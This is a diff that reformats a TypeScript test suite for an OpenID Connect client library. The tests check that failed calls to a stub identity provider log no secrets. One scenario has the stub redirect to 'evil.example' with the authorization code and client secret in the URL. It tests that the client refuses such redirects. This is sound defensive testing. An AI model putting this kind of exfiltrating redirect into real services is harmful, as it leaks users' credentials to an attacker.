@@ -36,43 +36,160 @@ interface Scenario {
 }
 
 const scenarios: Scenario[] = [
-  { name: 'token endpoint 500', code: 'provider_server_error', warns: 'token', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 500, { error: 'server_error', error_description: echo })) },
-  { name: 'client credentials refused', code: 'token_request_failed', warns: 'token', oauthError: 'invalid_client', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 401, { error: 'invalid_client', error_description: echo })) },
-  { name: 'client not allowed', code: 'token_request_failed', warns: 'token', oauthError: 'unauthorized_client', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 400, { error: 'unauthorized_client', error_description: echo })) },
-  { name: 'code refused (the person side)', code: 'token_request_failed', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 400, { error: 'invalid_grant', error_description: echo })) },
-  { name: 'an OAuth error code that is itself a secret', code: 'token_request_failed', step: 'callback',
-    setup: (s) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 400, { error: SECRET })) },
-  { name: 'token endpoint redirects', code: 'provider_redirect_refused', warns: 'token', step: 'callback',
-    setup: (s) => s.override(STUB_PATHS.token, (_r, res) => { res.writeHead(302, { Location: `https://evil.example/?code=${CODE}&secret=${SECRET}` }).end(); }) },
-  { name: 'token endpoint answers non-JSON', code: 'provider_invalid_response', warns: 'token', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.token, (_r, res) => { res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<p>${echo}</p>`); }) },
-  { name: 'service unreachable', code: 'provider_unreachable', warns: 'token', step: 'callback', client: { hostname: 'http://127.0.0.1:9' },
-    setup: () => undefined },
-  { name: 'token endpoint hangs', code: 'provider_timeout', warns: 'token', step: 'callback', client: { timeout: 150 },
-    setup: (s) => s.override(STUB_PATHS.token, () => undefined) },
-  { name: 'key set 503', code: 'provider_server_error', warns: 'jwks', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.jwks, (_r, res) => sendJson(res, 503, { error: echo })) },
-  { name: 'unusable key set', code: 'jwks_invalid', warns: 'jwks', step: 'callback',
-    setup: (s, echo) => s.override(STUB_PATHS.jwks, (_r, res) => sendJson(res, 200, { keys: echo })) },
-  { name: 'ID token for another audience', code: 'id_token_aud_mismatch', step: 'callback',
-    setup: (s) => { s.claims = { aud: 'someone-else' }; } },
-  { name: 'userinfo 502', code: 'provider_server_error', warns: 'userinfo', step: 'userinfo',
-    setup: (s, echo) => s.override(STUB_PATHS.userinfo, (_r, res) => sendJson(res, 502, { error: 'bad_gateway', error_description: echo })) },
-  { name: 'access token refused (the person side)', code: 'userinfo_request_failed', step: 'userinfo',
-    setup: (s, echo) => s.override(STUB_PATHS.userinfo, (_r, res) => sendJson(res, 401, { error: 'invalid_token', error_description: echo })) },
-  { name: 'block key for another key', code: 'userinfo_key_decrypt_failed', warns: 'userinfo', step: 'userinfo',
-    setup: (s) => { s.userinfo.recipient = importRsaPublicKey(testKeyPair('stranger').publicKeyPem); } },
-  { name: 'attribute sent in clear', code: 'userinfo_malformed', warns: 'userinfo', step: 'userinfo',
-    setup: (s) => s.override(STUB_PATHS.userinfo, async (_r, res) => sendJson(res, 200, { ...(await s.userinfoBody()), data: { 'profile.nric_number': NRIC } })) },
+  {
+    name: 'token endpoint 500',
+    code: 'provider_server_error',
+    warns: 'token',
+    step: 'callback',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 500, { error: 'server_error', error_description: echo })),
+  },
+  {
+    name: 'client credentials refused',
+    code: 'token_request_failed',
+    warns: 'token',
+    oauthError: 'invalid_client',
+    step: 'callback',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.token, (_r, res) =>
+        sendJson(res, 401, { error: 'invalid_client', error_description: echo }),
+      ),
+  },
+  {
+    name: 'client not allowed',
+    code: 'token_request_failed',
+    warns: 'token',
+    oauthError: 'unauthorized_client',
+    step: 'callback',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.token, (_r, res) =>
+        sendJson(res, 400, { error: 'unauthorized_client', error_description: echo }),
+      ),
+  },
+  {
+    name: 'code refused (the person side)',
+    code: 'token_request_failed',
+    step: 'callback',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.token, (_r, res) =>
+        sendJson(res, 400, { error: 'invalid_grant', error_description: echo }),
+      ),
+  },
+  {
+    name: 'an OAuth error code that is itself a secret',
+    code: 'token_request_failed',
+    step: 'callback',
+    setup: (s) => s.override(STUB_PATHS.token, (_r, res) => sendJson(res, 400, { error: SECRET })),
+  },
+  {
+    name: 'token endpoint redirects',
+    code: 'provider_redirect_refused',
+    warns: 'token',
+    step: 'callback',
+    setup: (s) =>
+      s.override(STUB_PATHS.token, (_r, res) => {
+        res.writeHead(302, { Location: `https://evil.example/?code=${CODE}&secret=${SECRET}` }).end();
+      }),
+  },
+  {
+    name: 'token endpoint answers non-JSON',
+    code: 'provider_invalid_response',
+    warns: 'token',
+    step: 'callback',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.token, (_r, res) => {
+        res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<p>${echo}</p>`);
+      }),
+  },
+  {
+    name: 'service unreachable',
+    code: 'provider_unreachable',
+    warns: 'token',
+    step: 'callback',
+    client: { hostname: 'http://127.0.0.1:9' },
+    setup: () => undefined,
+  },
+  {
+    name: 'token endpoint hangs',
+    code: 'provider_timeout',
+    warns: 'token',
+    step: 'callback',
+    client: { timeout: 150 },
+    setup: (s) => s.override(STUB_PATHS.token, () => undefined),
+  },
+  {
+    name: 'key set 503',
+    code: 'provider_server_error',
+    warns: 'jwks',
+    step: 'callback',
+    setup: (s, echo) => s.override(STUB_PATHS.jwks, (_r, res) => sendJson(res, 503, { error: echo })),
+  },
+  {
+    name: 'unusable key set',
+    code: 'jwks_invalid',
+    warns: 'jwks',
+    step: 'callback',
+    setup: (s, echo) => s.override(STUB_PATHS.jwks, (_r, res) => sendJson(res, 200, { keys: echo })),
+  },
+  {
+    name: 'ID token for another audience',
+    code: 'id_token_aud_mismatch',
+    step: 'callback',
+    setup: (s) => {
+      s.claims = { aud: 'someone-else' };
+    },
+  },
+  {
+    name: 'userinfo 502',
+    code: 'provider_server_error',
+    warns: 'userinfo',
+    step: 'userinfo',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.userinfo, (_r, res) =>
+        sendJson(res, 502, { error: 'bad_gateway', error_description: echo }),
+      ),
+  },
+  {
+    name: 'access token refused (the person side)',
+    code: 'userinfo_request_failed',
+    step: 'userinfo',
+    setup: (s, echo) =>
+      s.override(STUB_PATHS.userinfo, (_r, res) =>
+        sendJson(res, 401, { error: 'invalid_token', error_description: echo }),
+      ),
+  },
+  {
+    name: 'block key for another key',
+    code: 'userinfo_key_decrypt_failed',
+    warns: 'userinfo',
+    step: 'userinfo',
+    setup: (s) => {
+      s.userinfo.recipient = importRsaPublicKey(testKeyPair('stranger').publicKeyPem);
+    },
+  },
+  {
+    name: 'attribute sent in clear',
+    code: 'userinfo_malformed',
+    warns: 'userinfo',
+    step: 'userinfo',
+    setup: (s) =>
+      s.override(STUB_PATHS.userinfo, async (_r, res) =>
+        sendJson(res, 200, { ...(await s.userinfoBody()), data: { 'profile.nric_number': NRIC } }),
+      ),
+  },
 ];
 
 let stub: StubProvider;
 let idToken: string;
-const secrets = (): string[] => [SECRET, CODE, VERIFIER, ACCESS_TOKEN, idToken, NRIC, ...idToken.split('.').filter((p) => p.length > 10)];
+const secrets = (): string[] => [
+  SECRET,
+  CODE,
+  VERIFIER,
+  ACCESS_TOKEN,
+  idToken,
+  NRIC,
+  ...idToken.split('.').filter((p) => p.length > 10),
+];
 
 beforeAll(async () => {
   stub = await startStubProvider();
@@ -139,34 +256,52 @@ function capturingLogger(): Logger & { lines: { level: string; event: Record<str
 }
 
 describe('IdClient logging through a logger', () => {
-  it.each(scenarios.map((s) => [s.name, s] as const))('%s: logs no secret, and warns only when server-side', async (_n, scenario) => {
-    const logger = capturingLogger();
-    const err = await run(scenario, { logger });
-    expectClean(JSON.stringify(logger.lines));
-    expectClean(err.message);
-    const warns = logger.lines.filter((l) => l.level === 'warn');
-    if (scenario.warns === undefined) {
-      expect(warns).toEqual([]);
-    } else {
-      expect(warns).toHaveLength(1);
-      expect(warns[0]!.event).toMatchObject({ event: 'provider_call_failed', code: scenario.code, endpoint: scenario.warns });
-      if (err.status !== undefined) expect(warns[0]!.event.status).toBe(err.status);
-      if (scenario.oauthError) expect(warns[0]!.event.oauthError).toBe(scenario.oauthError);
-    }
-  });
+  it.each(scenarios.map((s) => [s.name, s] as const))(
+    '%s: logs no secret, and warns only when server-side',
+    async (_n, scenario) => {
+      const logger = capturingLogger();
+      const err = await run(scenario, { logger });
+      expectClean(JSON.stringify(logger.lines));
+      expectClean(err.message);
+      const warns = logger.lines.filter((l) => l.level === 'warn');
+      if (scenario.warns === undefined) {
+        expect(warns).toEqual([]);
+      } else {
+        expect(warns).toHaveLength(1);
+        expect(warns[0]!.event).toMatchObject({
+          event: 'provider_call_failed',
+          code: scenario.code,
+          endpoint: scenario.warns,
+        });
+        if (err.status !== undefined) expect(warns[0]!.event.status).toBe(err.status);
+        if (scenario.oauthError) expect(warns[0]!.event.oauthError).toBe(scenario.oauthError);
+      }
+    },
+  );
 
   it('logs the key-set fetch at debug', async () => {
     const logger = capturingLogger();
-    const client = new IdClient({ clientId: stub.clientId, clientSecret: SECRET, privateKey: stub.rpPrivateKeyPem, redirectUri: 'https://rp.example/cb', hostname: stub.origin, logger });
+    const client = new IdClient({
+      clientId: stub.clientId,
+      clientSecret: SECRET,
+      privateKey: stub.rpPrivateKeyPem,
+      redirectUri: 'https://rp.example/cb',
+      hostname: stub.origin,
+      logger,
+    });
     stub.nonce = 'n-123456';
     await client.callback({ code: CODE, codeVerifier: VERIFIER, nonce: 'n-123456' });
     client.close();
-    expect(logger.lines).toEqual([{ level: 'debug', event: { event: 'jwks_fetched', usableKeys: 1, refetch: false }, text: expect.any(String) }]);
+    expect(logger.lines).toEqual([
+      { level: 'debug', event: { event: 'jwks_fetched', usableKeys: 1, refetch: false }, text: expect.any(String) },
+    ]);
   });
 
   it('refuses a logger without the four level methods, naming the option', () => {
     const base = { clientId: 'c', clientSecret: 's', privateKey: stub.rpPrivateKeyPem, hostname: 'https://id.example' };
-    expect(() => new IdClient({ ...base, logger: { info() {} } as never })).toThrow(/IdClient: logger must have debug, info, warn and error/);
+    expect(() => new IdClient({ ...base, logger: { info() {} } as never })).toThrow(
+      /IdClient: logger must have debug, info, warn and error/,
+    );
   });
 });
 
@@ -180,22 +315,25 @@ describe('IdClient logging without a logger', () => {
     else expect(output).toBe('');
   });
 
-  it.each(scenarios.map((s) => [s.name, s] as const))('%s: DEBUG=passport-nd-id* output has no secret', async (_n, scenario) => {
-    createDebug.enable('passport-nd-id*');
-    const chunks: string[] = [];
-    vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
-      chunks.push(String(chunk));
-      return true;
-    });
-    vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
-      chunks.push(args.map(String).join(' '));
-    });
-    vi.spyOn(console, 'log').mockImplementation((...args: unknown[]) => {
-      chunks.push(args.map(String).join(' '));
-    });
-    await run(scenario, {});
-    const output = chunks.join('\n');
-    if (scenario.warns) expect(output).toContain('passport-nd-id:client warn');
-    expectClean(output);
-  });
+  it.each(scenarios.map((s) => [s.name, s] as const))(
+    '%s: DEBUG=passport-nd-id* output has no secret',
+    async (_n, scenario) => {
+      createDebug.enable('passport-nd-id*');
+      const chunks: string[] = [];
+      vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
+        chunks.push(String(chunk));
+        return true;
+      });
+      vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
+        chunks.push(args.map(String).join(' '));
+      });
+      vi.spyOn(console, 'log').mockImplementation((...args: unknown[]) => {
+        chunks.push(args.map(String).join(' '));
+      });
+      await run(scenario, {});
+      const output = chunks.join('\n');
+      if (scenario.warns) expect(output).toContain('passport-nd-id:client warn');
+      expectClean(output);
+    },
+  );
 });
